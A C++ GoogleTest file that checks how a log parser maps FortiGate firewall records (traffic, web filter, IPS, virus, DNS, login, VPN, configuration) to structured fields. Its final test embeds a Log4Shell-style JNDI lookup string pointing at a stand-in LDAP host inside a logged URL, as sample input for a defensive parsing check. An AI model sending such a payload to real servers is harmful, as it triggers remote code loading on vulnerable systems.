// SPDX-License-Identifier: Apache-2.0
#include "agent/formats/fortigate.h"

#include <gtest/gtest.h>

#include <string>

#include "absl/strings/str_cat.h"
#include "tests/agent/formats/cut_line.h"
#include "tests/agent/formats/parsed_line.h"

namespace dims {
namespace {

constexpr absl::string_view kTraffic =
    R"(<189>date=2026-01-14 time=10:20:30 devname="fw1" devid="FG100F0000000001" eventtime=1768382430123456789 tz="+0100" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=192.0.2.10 srcport=50123 srcintf="lan1" dstip=198.51.100.20 dstport=443 dstintf="wan1" sessionid=4711 proto=6 action="close" policyid=7 policyname="web out" service="HTTPS" trandisp="snat" transip=203.0.113.5 transport=50123 duration=12 sentbyte=1200 rcvdbyte=3400 sentpkt=11 rcvdpkt=9 appcat="unscanned")";

TEST(FortigateTest, ReadsATrafficRecord) {
  const ParsedLine line(kTraffic);

  EXPECT_EQ(line["event.dataset"], "fortinet.fortigate");
  EXPECT_EQ(line["@timestamp"], "2026-01-14T09:20:30.123456789Z");
  EXPECT_EQ(line["observer.name"], "fw1");
  EXPECT_EQ(line["event.code"], "0000000013");
  EXPECT_EQ(line["source.ip"], "192.0.2.10");
  EXPECT_EQ(line["source.port"], "50123");
  EXPECT_EQ(line["source.nat.ip"], "203.0.113.5");
  EXPECT_EQ(line["destination.ip"], "198.51.100.20");
  EXPECT_EQ(line["destination.bytes"], "3400");
  EXPECT_EQ(line["source.packets"], "11");
  EXPECT_EQ(line["network.transport"], "tcp");
  EXPECT_EQ(line["network.protocol"], "https");
  EXPECT_EQ(line["event.duration"], "12000000000");
  EXPECT_EQ(line["rule.id"], "7");
  EXPECT_EQ(line["rule.name"], "web out");
  EXPECT_EQ(line["event.action"], "close");
  EXPECT_EQ(line["event.outcome"], "success");
  EXPECT_EQ(line["event.type"], "connection,allowed,end");
  EXPECT_EQ(line["labels.fortinet.sessionid"], "4711");
  EXPECT_TRUE(line.Stores("network.community_id"));
}

TEST(FortigateTest, SaysThatARefusedConnectionFailed) {
  const ParsedLine line(
      R"(date=2026-01-14 time=10:20:30 tz="+0000" logid="0000000013" type="traffic" subtype="forward" srcip=192.0.2.10 srcport=1 dstip=198.51.100.20 dstport=2 proto=17 action="deny" policyid=0)");
  EXPECT_EQ(line["event.type"], "connection,denied");
  EXPECT_EQ(line["event.outcome"], "failure");
  EXPECT_EQ(line["@timestamp"], "2026-01-14T10:20:30Z");
}

TEST(FortigateTest, TakesEventTimeInAnyUnitWhenTheDateSaysNoZone) {
  for (const char* time :
       {"1768382430", "1768382430000", "1768382430000000", "1768382430000000000"}) {
    const ParsedLine line(
        absl::StrCat("date=2026-01-14 time=10:20:30 devid=FG1 type=utm eventtime=", time));
    EXPECT_EQ(line["@timestamp"], "2026-01-14T09:20:30Z") << time;
  }
}

TEST(FortigateTest, PrefersTheWrittenTimeToAnEventTimeOfAnotherDay) {
  const ParsedLine line(
      R"(date=2026-01-14 time=10:20:30 tz="+0100" devid=FG1 type=utm eventtime=1500000000)");
  EXPECT_EQ(line["@timestamp"], "2026-01-14T09:20:30Z");
  EXPECT_EQ(line["event.start"], "2017-07-14T02:40:00Z");
}

TEST(FortigateTest, ReadsAWebFilterRecord) {
  const ParsedLine line(
      R"(date=2026-01-14 time=10:20:30 tz="+0000" devid="FG1" logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_blk" level="warning" policyid=3 user="alice" group="staff" srcip=192.0.2.10 srcport=5 dstip=198.51.100.20 dstport=443 proto=6 service="HTTPS" hostname="www.example.net" action="blocked" url="/a/b?c=d" direction="outgoing" msg="URL belongs to a denied \"category\"" catdesc="Games")");
  EXPECT_EQ(line["url.domain"], "www.example.net");
  EXPECT_EQ(line["url.path"], "/a/b");
  EXPECT_EQ(line["url.query"], "c=d");
  EXPECT_EQ(line["user.name"], "alice");
  EXPECT_EQ(line["group.name"], "staff");
  EXPECT_EQ(line["rule.category"], "Games");
  EXPECT_EQ(line["network.direction"], "outbound");
  EXPECT_EQ(line["event.category"], "network,web");
  EXPECT_EQ(line["labels.fortinet.eventtype"], "ftgd_blk");
}

TEST(FortigateTest, MakesAnAlertOfIntrusionsAndViruses) {
  const ParsedLine ips(
      R"(date=2026-01-14 time=10:20:30 devid=FG1 type="utm" subtype="ips" action="dropped" srcip=192.0.2.1 dstip=198.51.100.2 proto=1 service="PING" icmptype="0x08" icmpcode="0x00" attack="icmp_flood")");
  EXPECT_EQ(ips["event.kind"], "alert");
  EXPECT_EQ(ips["event.category"], "network,intrusion_detection");
  EXPECT_TRUE(ips.Stores("network.community_id"));
  const ParsedLine virus(
      R"(date=2026-01-14 time=10:20:30 devid=FG1 type="utm" subtype="virus" action="blocked" analyticscksum="8a18d44ed122e6257863169d9a219946f4229f57b1d49ca0493b8366338230e8")");
  EXPECT_EQ(virus["event.category"], "network,malware");
  EXPECT_TRUE(virus.Stores("file.hash.sha256"));
}

TEST(FortigateTest, ReadsADnsAnswer) {
  const ParsedLine line(
      R"(date=2026-01-14 time=10:20:30 devid=FG1 type="utm" subtype="dns" srcip=192.0.2.1 qname="www.example.net" qtype="A" ipaddr="198.51.100.1, 198.51.100.2" action="pass")");
  EXPECT_EQ(line["dns.question.name"], "www.example.net");
  EXPECT_EQ(line["dns.resolved_ip"], "198.51.100.1,198.51.100.2");
}

TEST(FortigateTest, ReadsLoginsAndWhereTheyCameFrom) {
  const ParsedLine failed(
      R"x(date=2026-01-14 time=10:20:30 devid=FG1 logid="0100032002" type="event" subtype="system" user="admin" ui="ssh(192.0.2.7)" action="login" status="failed" reason="passwd_invalid")x");
  EXPECT_EQ(failed["event.category"], "authentication");
  EXPECT_EQ(failed["event.outcome"], "failure");
  EXPECT_EQ(failed["source.ip"], "192.0.2.7");
  EXPECT_EQ(failed["event.reason"], "passwd_invalid");
  const ParsedLine vpn(
      R"(date=2026-01-14 time=10:20:30 logid="0101039426" type="event" subtype="vpn" vd=root action="ssl-login-fail" remip=192.0.2.8 user="bob")");
  EXPECT_EQ(vpn["source.ip"], "192.0.2.8");
  EXPECT_EQ(vpn["event.outcome"], "failure");
  EXPECT_EQ(vpn["user.name"], "bob");
}

TEST(FortigateTest, TellsWhatWasConfigured) {
  const ParsedLine line(
      R"(type="event" subtype="system" level="information" vd="root" user="admin" action="Delete" cfgpath="system.admin" msg="Delete system.admin x")");
  EXPECT_EQ(line["event.category"], "configuration");
  EXPECT_EQ(line["event.type"], "deletion");
  EXPECT_EQ(line["event.reason"], "Delete system.admin x");
}

TEST(FortigateTest, ReadsTheStyleWithCommas) {
  const ParsedLine line(
      "date=2026-01-14,time=10:20:30,devid=FG1,logid=0000000013,type=traffic,subtype=forward,"
      "srcip=192.0.2.10,srcport=5,dstip=198.51.100.20,dstport=443,proto=6,action=\"accept\"");
  EXPECT_EQ(line["event.dataset"], "fortinet.fortigate");
  EXPECT_EQ(line["source.ip"], "192.0.2.10");
  EXPECT_EQ(line["destination.port"], "443");
  EXPECT_EQ(line["event.action"], "accept");
}

TEST(FortigateTest, SurvivesEveryCut) {
  ExpectEveryCutIsKept(kTraffic);
  for (std::size_t length = 0; length < kTraffic.size(); ++length) {
    const ParsedLine line(kTraffic.substr(0, length));
    if (length > 240) {
      EXPECT_EQ(line["event.dataset"], "fortinet.fortigate") << length;
    }
  }
}

TEST(FortigateTest, LeavesOtherPairsAlone) {
  EXPECT_EQ(ParsedLine("date=2026-01-14 colour=red shape=round size=3")["event.dataset"],
            "generic.keyvalue");
  const ParsedLine garbage("date=\" type=,,=,=\" logid== ==\"type=\"\\\"\\ =");
  EXPECT_EQ(garbage["source.ip"], "");
}

TEST(FortigateTest, APathThatHoldsAnAddressIsStillAPath) {
  const ParsedLine line(
      "date=2026-01-05 time=10:11:12 devname=\"FGT1\" devid=\"FG100E\" logid=\"0419016384\" "
      "type=\"utm\" subtype=\"ips\" level=\"alert\" srcip=192.0.2.5 dstip=198.51.100.9 "
      "hostname=\"www.site.example\" url=\"/?x=${jndi:ldap://203.0.113.9/a}\" action=\"dropped\"");
  EXPECT_EQ(line["url.domain"], "www.site.example");
  EXPECT_EQ(line["url.path"], "/");
}

}  // namespace
}  // namespace dims
